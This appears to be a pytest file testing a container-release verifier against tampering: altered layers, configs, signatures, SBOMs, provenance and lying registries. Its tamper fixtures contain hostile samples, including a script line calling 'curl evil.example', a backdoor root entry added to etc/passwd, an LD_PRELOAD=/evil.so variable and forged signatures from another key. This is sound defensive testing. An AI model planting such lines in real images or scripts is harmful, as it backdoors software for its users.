"""Every change of a published release is refused in one clear line that names the layer, file or document."""

import json
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from airbyte_ci.attest import provenance
from airbyte_ci.attest.attachment import CREATED_ANNOTATION, Attachment
from airbyte_ci.attest.build_inputs import BUILD_PLAN
from airbyte_ci.attest.signing import attest, legacy
from airbyte_ci.attest.signing.base64_text import decode, encode
from airbyte_ci.attest.signing.bundle import BUNDLE
from airbyte_ci.attest.signing.keys import SigningKey
from airbyte_ci.attest.statement import COSIGN_SIGN, PROVENANCE, Statement
from airbyte_ci.errors import AirbyteCiError
from airbyte_ci.oci.digest import Digest
from airbyte_ci.oci.image import MANIFEST
from airbyte_ci.oci.store.store import Store
from airbyte_ci.testing.faults import Corrupt, Fault, Header
from airbyte_ci.testing.registry import RegistryServer
from tests.attest import releases
from tests.attest.conftest import SignedRelease, copied
from tests.attest.verification.forger import Document, Forger, flipped

Tamper = Callable[[Forger, SigningKey], None]
_JAR = "airbyte/lib/guava-33.0-jre.jar"
_CREATED = "2026-01-01T00:00:00Z"


def _refusals(
    signed: SignedRelease,
    tamper: Tamper,
    store: Path,
    *,
    key: bool,
    rebuild: bool = False,
    required: Sequence[str] = (),
) -> list[str]:
    """What `verify` says of a changed copy of the release."""
    forger = Forger(copied(signed.contents), signed.repository, signed.released.subject.index.digest)
    tamper(forger, signed.key)
    with RegistryServer(contents=forger.contents) as server:
        address = signed.at(server.host).with_digest(forger.root)
        try:
            own = signed.key if key else None
            findings = releases.check(address, Store(store), key=own, rebuild=rebuild, required=required)
        except AirbyteCiError as error:
            return [error.message]
        return releases.failures(findings)


# --- images: an attacker without the key ----------------------------------------------------------


def _change_jar(forger: Forger, _: SigningKey) -> None:
    forger.change_file(_JAR, flipped)


def _add_to_script(forger: Forger, _: SigningKey) -> None:
    forger.change_file("airbyte/bin/source-postal", lambda data: data + b"curl evil.example\n")


def _change_base(forger: Forger, _: SigningKey) -> None:
    forger.change_file("etc/passwd", lambda data: data + b"evil:x:0:0::/:/bin/sh\n")


def _label(forger: Forger, _: SigningKey) -> None:
    forger.change_config(lambda config: config["config"]["Labels"].update({"io.airbyte.version": "9.9.9"}))


def _variable(forger: Forger, _: SigningKey) -> None:
    forger.change_config(lambda config: config["config"]["Env"].append("LD_PRELOAD=/evil.so"))


def _user(forger: Forger, _: SigningKey) -> None:
    forger.change_config(lambda config: config["config"].update(User="root"))


def _annotation(forger: Forger, _: SigningKey) -> None:
    key = "org.opencontainers.image.base.name"
    forger.change_image(lambda manifest: manifest["annotations"].update({key: "docker.io/acme/other"}))


def _platform(forger: Forger, _: SigningKey) -> None:
    forger.change_config(lambda config: config.update(architecture="s390x"))


@pytest.mark.parametrize(
    ("tamper", "said"),
    [
        (_change_jar, f"/{_JAR} has different contents than the plan names"),
        (_add_to_script, "/airbyte/bin/source-postal has different contents than the plan names"),
        (_change_base, "layer 0 is"),
        (_label, "the plan sets the label io.airbyte.version to '1.0.0', the image has '9.9.9'"),
        (_variable, "built again, it is another image: the configuration"),
        (_user, "built again, it is another image: the configuration"),
        (_annotation, "the image has docker.io/acme/other"),
        (_platform, "names an image for linux/s390x as linux/amd64"),
    ],
)
def test_a_changed_image_is_refused_even_without_a_key(
    signed: SignedRelease, tamper: Tamper, said: str, tmp_path: Path
) -> None:
    """Its documents do not agree with its bytes, or a second build does not; the layer and file are named."""
    found = _refusals(signed, tamper, tmp_path / "store", key=False, rebuild=True)
    assert any(said in line for line in found), found
    assert all("\n" not in line for line in found)


@pytest.mark.parametrize("tamper", [_change_jar, _change_base, _label, _variable, _annotation])
def test_a_changed_image_has_no_signature(signed: SignedRelease, tamper: Tamper, tmp_path: Path) -> None:
    """The old signatures, attached to the changed image, are about another image, and no rebuild is necessary."""
    found = _refusals(signed, tamper, tmp_path / "store", key=True)
    assert any(line.startswith("index signature: no valid signature: it is about sha256:") for line in found), found
    assert any(line.startswith("linux/amd64 signature: no valid signature: it is about") for line in found), found


# --- documents ------------------------------------------------------------------------------------


def _change_envelope(change: Callable[[Document], None]) -> Callable[[bytes], bytes]:
    def apply(data: bytes) -> bytes:
        document = json.loads(data)
        change(document["dsseEnvelope"])
        return json.dumps(document).encode()

    return apply


def _flip_signature(forger: Forger, _: SigningKey) -> None:
    def change(envelope: Document) -> None:
        signature = envelope["signatures"][0]
        signature["sig"] = encode(flipped(decode(signature["sig"]), -1))

    forger.change_documents(BUNDLE, _change_envelope(change), COSIGN_SIGN)


def _flip_payload(forger: Forger, _: SigningKey) -> None:
    def change(envelope: Document) -> None:
        payload = decode(envelope["payload"]).replace(b"local:v1", b"local:v2")
        envelope["payload"] = encode(payload)

    forger.change_documents(BUNDLE, _change_envelope(change), PROVENANCE)


def _flip_plan(forger: Forger, _: SigningKey) -> None:
    forger.change_documents(BUILD_PLAN, lambda data: data.replace(b'"1.0.0"', b'"1.0.1"'))


def _swap_signatures(forger: Forger, _: SigningKey) -> None:
    amd64, arm64 = forger.image("amd64"), forger.image("arm64")
    forger.drop(amd64, BUNDLE)
    for _digest, document in forger.referrers(arm64):
        document["subject"]["digest"] = str(amd64)
        forger.contents.put_manifest(forger.name, document["mediaType"], json.dumps(document).encode())


def _drop_all(forger: Forger, _: SigningKey) -> None:
    for subject in (forger.root, forger.image("amd64"), forger.image("arm64")):
        forger.drop(subject)


def _drop_plan(forger: Forger, _: SigningKey) -> None:
    forger.drop(forger.image(), BUILD_PLAN)


def _sign_with(key: SigningKey, subject: Digest, kind: str, predicate: dict[str, Any]) -> Attachment:
    return attest.attach_signed(key, Statement(subject, kind, predicate), _CREATED)


def _other_key(forger: Forger, _: SigningKey) -> None:
    evil, _pem = releases.make_key()
    for subject in (forger.root, forger.image()):
        forger.drop(subject, BUNDLE)
        forger.attach(_sign_with(evil, subject, COSIGN_SIGN, {}), subject)


def _unsigned(forger: Forger, _: SigningKey) -> None:
    from airbyte_ci.attest.statement import attach_plain

    forger.drop(forger.image(), BUNDLE)
    forger.attach(attach_plain(Statement(forger.image(), COSIGN_SIGN), _CREATED), forger.image())


def _forged_provenance(forger: Forger, _: SigningKey) -> None:
    """The image's signature stays; the provenance is replaced by one of another key."""
    evil, _pem = releases.make_key()
    subject = forger.image()
    predicate = _predicate(forger, subject)
    for digest, document in forger.referrers(subject):
        if (document.get("annotations") or {}).get("dev.sigstore.bundle.predicateType") == PROVENANCE:
            del forger.repository.manifests[digest]
    forger.attach(_sign_with(evil, subject, PROVENANCE, predicate), subject)


def _predicate(forger: Forger, subject: Digest) -> dict[str, Any]:
    for _, document in forger.referrers(subject):
        if (document.get("annotations") or {}).get("dev.sigstore.bundle.predicateType") == PROVENANCE:
            envelope = json.loads(forger.blob(document["layers"][0]))["dsseEnvelope"]
            predicate: dict[str, Any] = json.loads(decode(envelope["payload"]))["predicate"]
            return predicate
    raise AssertionError("no provenance")


def _broken(forger: Forger, _: SigningKey) -> None:
    forger.change_documents(BUNDLE, lambda data: data[:-1], COSIGN_SIGN)


def _empty(forger: Forger, _: SigningKey) -> None:
    forger.change_documents(BUNDLE, lambda _: b"", COSIGN_SIGN)


def _resigned_sbom(kind: str, change: Callable[[Document], None]) -> Tamper:
    """The SBOM of a kind is replaced by a changed one with a valid signature."""

    def tamper(forger: Forger, key: SigningKey) -> None:
        subject = forger.image()
        for digest, document in forger.referrers(subject):
            if (document.get("annotations") or {}).get("dev.sigstore.bundle.predicateType") == kind:
                envelope = json.loads(forger.blob(document["layers"][0]))["dsseEnvelope"]
                predicate = json.loads(decode(envelope["payload"]))["predicate"]
                change(predicate)
                del forger.repository.manifests[digest]
                forger.attach(_sign_with(key, subject, kind, predicate), subject)

    return tamper


def _component(document: Document, name: str) -> Document:
    found: Document
    (found,) = (item for item in document.get("components") or document["packages"] if name in item["name"])
    return found


def _lacks(document: Document) -> None:
    listed = document.get("components") or document["packages"]
    listed.remove(_component(document, "guava"))


def _older(document: Document) -> None:
    component = _component(document, "guava")
    component["version" if "version" in component else "versionInfo"] = "1.0"


def _invents(document: Document) -> None:
    listed = document.get("components") or document["packages"]
    listed.append({"name": "evil", "version": "1", "bom-ref": "evil", "SPDXID": "SPDXRef-evil"})


def _other_hash(document: Document) -> None:
    component = _component(document, "guava")
    for item in component.get("hashes") or component["checksums"]:
        item["content" if "content" in item else "checksumValue"] = "0" * 64


@pytest.mark.parametrize(
    ("kind", "change", "said"),
    [
        (kind, change, said)
        for kind in ("https://cyclonedx.org/bom", "https://spdx.dev/Document")
        for change, said in (
            (_lacks, "lacks guava 33.0-jre, which is in layer"),
            (_older, "has another version"),
            (_invents, "lists evil"),
            (_other_hash, "has another"),
        )
    ],
)
def test_an_sbom_must_agree_with_the_layers(
    signed: SignedRelease, kind: str, change: Callable[[Document], None], said: str, tmp_path: Path
) -> None:
    """Even a signed SBOM is refused if it lacks, invents or changes a component; the layer is named."""
    (found,) = _refusals(signed, _resigned_sbom(kind, change), tmp_path / "store", key=True)
    assert found.startswith("linux/amd64 sbom: no valid ") and said in found, found


def test_a_plain_sbom_is_compared_without_a_key(signed: SignedRelease, tmp_path: Path) -> None:
    """Without a key, a changed SBOM that nobody signed is refused too."""

    def tamper(forger: Forger, _: SigningKey) -> None:
        forger.drop(forger.image(), BUNDLE)
        forger.change_documents("application/vnd.cyclonedx+json", lambda data: data.replace(b"33.0-jre", b"33.1-jre"))

    found = _refusals(signed, tamper, tmp_path / "store", key=False)
    assert any(line.startswith("linux/amd64 sbom: its CycloneDX SBOM") for line in found), found


def test_a_wrong_plain_sbom_does_not_hide_others(signed: SignedRelease, tmp_path: Path) -> None:
    """Without a key, one of several unsigned SBOMs must agree with the layers; the order does not matter."""
    kind = "application/vnd.cyclonedx+json"

    def tamper(forger: Forger, _: SigningKey) -> None:
        (right,) = (
            forger.blob(found["layers"][0])
            for _, found in forger.referrers(forger.image())
            if found["artifactType"] == kind
        )
        forger.drop(forger.image(), BUNDLE)
        forger.change_documents(kind, lambda data: data.replace(b"33.0-jre", b"33.1-jre"))
        forger.attach(Attachment(kind, kind, right), forger.image())

    found = _refusals(signed, tamper, tmp_path / "store", key=False)
    assert not [line for line in found if " sbom: " in line], found


@pytest.mark.parametrize(
    ("tamper", "said"),
    [
        (_flip_signature, "linux/amd64 signature: no valid signature: its signature does not match its content"),
        (_flip_payload, "linux/amd64 provenance: no valid provenance: its signature does not match its content"),
        (_flip_plan, "linux/amd64 plan: the attached build plan has the digest"),
        (_swap_signatures, "linux/amd64 signature: no valid signature: it is about sha256:"),
        (_drop_all, "linux/amd64 signature: no signature was found"),
        (_drop_plan, "linux/amd64 plan: its build plan sha256:"),
        (_other_key, "index signature: no valid signature: it is signed with another key"),
        (_unsigned, "linux/amd64 signature: no valid signature: it is not signed"),
        (_forged_provenance, "linux/amd64 provenance: no valid provenance: it is signed with another key"),
        (_broken, "linux/amd64 signature: no signature was found: document sha256:"),
        (_empty, "linux/amd64 signature: no signature was found: document sha256:"),
    ],
)
def test_a_changed_document_is_refused(signed: SignedRelease, tamper: Tamper, said: str, tmp_path: Path) -> None:
    """A signature, provenance or plan that was changed, moved, removed or made by another key does not count."""
    found = _refusals(signed, tamper, tmp_path / "store", key=True)
    assert any(line.startswith(said) for line in found), found
    assert all("\n" not in line for line in found)


def test_documents_are_missing_without_a_key_too(signed: SignedRelease, tmp_path: Path) -> None:
    """A registry that lists no documents fails a verification that names no key."""
    found = _refusals(signed, _drop_all, tmp_path / "store", key=False)
    assert any(line.startswith("linux/amd64 plan: its build plan sha256:") for line in found), found


@pytest.mark.parametrize("key", [True, False])
def test_further_documents_do_no_harm(signed: SignedRelease, tmp_path: Path, key: bool) -> None:
    """Anyone may attach garbage, foreign signatures and other statements; the real ones are still found."""
    evil, _ = releases.make_key()

    def tamper(forger: Forger, _: SigningKey) -> None:
        for subject in (forger.root, forger.image()):
            forger.attach(_sign_with(evil, subject, COSIGN_SIGN, {}), subject)
            forger.attach(_sign_with(evil, subject, PROVENANCE, {"buildDefinition": 1}), subject)
            forger.attach(Attachment(BUNDLE, BUNDLE, b"\xff{", {CREATED_ANNOTATION: _CREATED}), subject)
            forger.attach(Attachment(BUILD_PLAN, BUILD_PLAN, b"[]"), subject)
            forger.attach(Attachment("text/plain", "text/plain", b"hello"), subject)

    assert _refusals(signed, tamper, tmp_path / "store", key=key) == []


# --- provenance that a key signed, but that is not that of the image -------------------------------


def _without_input(predicate: dict[str, Any]) -> None:
    predicate["buildDefinition"]["resolvedDependencies"].pop()


def _with_input(predicate: dict[str, Any]) -> None:
    entry = {"name": "more", "annotations": {provenance.KIND: "package"}, "digest": {"sha256": "0" * 64}}
    predicate["buildDefinition"]["resolvedDependencies"].append(entry)


def _other_digest(predicate: dict[str, Any]) -> None:
    predicate["buildDefinition"]["resolvedDependencies"][-1]["digest"]["sha256"] = "0" * 64


def _other_plan(predicate: dict[str, Any]) -> None:
    predicate["buildDefinition"]["internalParameters"]["plans"] = {"linux/amd64": f"sha256:{'0' * 64}"}


def _other_byproduct(predicate: dict[str, Any]) -> None:
    predicate["runDetails"]["byproducts"][0]["digest"]["sha256"] = "0" * 64


def _other_type(predicate: dict[str, Any]) -> None:
    predicate["buildDefinition"]["buildType"] = "https://example.com/other@v1"


def _no_list(predicate: dict[str, Any]) -> None:
    predicate["buildDefinition"]["resolvedDependencies"] = "none"


def _empty_predicate(predicate: dict[str, Any]) -> None:
    predicate.clear()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_without_input, "its provenance does not list the input"),
        (_with_input, "its provenance lists the input 'more', which no plan has"),
        (_other_digest, "its provenance does not list the input"),
        (_other_plan, "its provenance names the plans"),
        (_other_byproduct, "its provenance has other by-products"),
        (_other_type, "its provenance has the build type 'https://example.com/other@v1'"),
        (_no_list, "its provenance has no list of resolvedDependencies"),
        (_empty_predicate, "its provenance has no buildDefinition"),
    ],
)
def test_provenance_must_agree_with_the_plan(
    signed: SignedRelease, change: Callable[[dict[str, Any]], None], said: str, tmp_path: Path
) -> None:
    """A signed provenance that names another plan or other inputs than those of the image is refused."""

    def tamper(forger: Forger, key: SigningKey) -> None:
        subject = forger.image()
        predicate = _predicate(forger, subject)
        change(predicate)
        for digest, document in forger.referrers(subject):
            if (document.get("annotations") or {}).get("dev.sigstore.bundle.predicateType") == PROVENANCE:
                del forger.repository.manifests[digest]
        forger.attach(_sign_with(key, subject, PROVENANCE, predicate), subject)

    found = _refusals(signed, tamper, tmp_path / "store", key=True)
    assert any(line.startswith(f"linux/amd64 provenance: no valid provenance: {said}") for line in found), found


# --- images that name no plan -----------------------------------------------------------------------


def _strip(forger: Forger, _: SigningKey) -> None:
    """The image no longer says that airbyte-ci built it, and has no documents."""
    forger.change_image(lambda manifest: manifest.pop("annotations"), keep_documents=False)


def test_an_image_about_which_nothing_is_known_is_refused(signed: SignedRelease, tmp_path: Path) -> None:
    """An image that claims nothing is not accepted for want of claims that could be wrong."""

    def tamper(forger: Forger, key: SigningKey) -> None:
        _strip(forger, key)
        index = forger.document(forger.root)
        index["manifests"] = [item for item in index["manifests"] if item["platform"]["architecture"] == "amd64"]
        forger.root = forger.contents.put_manifest(forger.name, index["mediaType"], json.dumps(index).encode())

    (found,) = _refusals(signed, tamper, tmp_path / "store", key=False)
    assert found.startswith("index policy: nothing was verified"), found
    assert "index signature: no signature was found" in _refusals(signed, tamper, tmp_path / "store", key=True)


def test_a_signed_index_of_another_tool_is_accepted(signed: SignedRelease, tmp_path: Path) -> None:
    """The signature of an index covers its images, and required claims are enforced for them, too."""

    def tamper(forger: Forger, key: SigningKey) -> None:
        _strip(forger, key)
        forger.drop(forger.image("arm64"))
        index = forger.document(forger.root)
        index["manifests"] = [item for item in index["manifests"] if item["platform"]["architecture"] == "amd64"]
        forger.root = forger.contents.put_manifest(forger.name, index["mediaType"], json.dumps(index).encode())
        forger.attach(_sign_with(key, forger.root, COSIGN_SIGN, {}), forger.root)

    assert _refusals(signed, tamper, tmp_path / "store", key=True) == []
    found = _refusals(signed, tamper, tmp_path / "store", key=True, required=(PROVENANCE,))
    assert found == ["linux/amd64 policy: no provenance was found"]


# --- signatures of cosign 2 ------------------------------------------------------------------------


def _legacy(signer: SigningKey | None = None, about: str = "", flip: bool = False) -> Tamper:
    """The bundles are replaced by the tags of cosign 2: of another key, about another image, or changed."""

    def tamper(forger: Forger, key: SigningKey) -> None:
        for digest in (forger.root, forger.image("amd64"), forger.image("arm64")):
            for referrer, document in forger.referrers(digest):
                kind = (document.get("annotations") or {}).get("dev.sigstore.bundle.predicateType")
                if kind == COSIGN_SIGN:
                    del forger.repository.manifests[referrer]
            signed = about or str(digest)
            payload = json.dumps({"critical": {"image": {"docker-manifest-digest": signed}}}).encode()
            signature = encode((signer or key).sign(payload))
            layer = {"mediaType": legacy.SIMPLE_SIGNING, "annotations": {_LEGACY: signature}}
            document = {"schemaVersion": 2, "mediaType": MANIFEST}
            document["layers"] = [forger.put(payload + b" " if flip else payload, layer)]
            document["config"] = forger.put(b"{}", {"mediaType": "application/vnd.oci.image.config.v1+json"})
            raw = json.dumps(document).encode()
            forger.contents.put_manifest(forger.name, MANIFEST, raw, legacy.signature_tag(digest))

    return tamper


_LEGACY = "dev.cosignproject.cosign/signature"


def test_a_signature_of_cosign_2_is_accepted(signed: SignedRelease, tmp_path: Path) -> None:
    """Where there is no newer signature, the one under cosign 2's tag is verified."""
    assert _refusals(signed, _legacy(), tmp_path / "store", key=True) == []


@pytest.mark.parametrize(
    ("tamper", "said"),
    [
        (_legacy(signer=releases.make_key()[0]), "its legacy signature is of another key, or of other content"),
        (_legacy(about=f"sha256:{'0' * 64}"), "its legacy signature is about another image"),
        (_legacy(flip=True), "its legacy signature is of another key, or of other content"),
    ],
)
def test_a_wrong_signature_of_cosign_2_is_refused(
    signed: SignedRelease, tamper: Tamper, said: str, tmp_path: Path
) -> None:
    """It must be of the key, of this content, and about this image."""
    found = _refusals(signed, tamper, tmp_path / "store", key=True)
    assert f"index signature: no valid signature: {said}" in found, found


# --- registries that lie ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fault", "said"),
    [
        (Fault("get manifest", Corrupt()), "instead of sha256:"),
        (Fault("get blob", Corrupt(), times=None), "sent different content"),
    ],
)
def test_a_registry_that_sends_other_bytes_is_refused(
    signed: SignedRelease, fault: Fault, said: str, tmp_path: Path
) -> None:
    """Manifests, configurations and documents are hashed when they arrive."""
    with RegistryServer(contents=signed.contents, faults=[fault]) as server:
        with pytest.raises(AirbyteCiError, match=said) as failure:
            releases.check(signed.at(server.host), Store(tmp_path / "store"), key=signed.key)
        assert "\n" not in failure.value.message


def test_a_tag_that_was_moved_is_refused(signed: SignedRelease, tmp_path: Path) -> None:
    """An address with a tag and a digest fails if the tag points to another image."""
    contents = copied(signed.contents)
    repository = contents.repositories[signed.repository]
    repository.tags["1.0.0"] = Forger(contents, signed.repository, signed.at("x").digest or Digest("")).image()
    with RegistryServer(contents=contents) as server:
        address = signed.at(server.host).with_tag("1.0.0").with_digest(signed.released.subject.index.digest)
        with pytest.raises(AirbyteCiError, match="points to another image now"):
            releases.check(address, Store(tmp_path / "store"), key=signed.key)


def test_a_tag_with_a_wrong_digest_header_is_refused(signed: SignedRelease, tmp_path: Path) -> None:
    """A registry that answers a tag with another digest than the content has is refused."""
    fault = Fault("get manifest", Header("Docker-Content-Digest", f"sha256:{'0' * 64}"))
    with RegistryServer(contents=signed.contents, faults=[fault]) as server:
        address = signed.at(server.host).with_tag("1.0.0")
        with pytest.raises(AirbyteCiError, match="instead of sha256:0000"):
            releases.check(address, Store(tmp_path / "store"), key=signed.key)
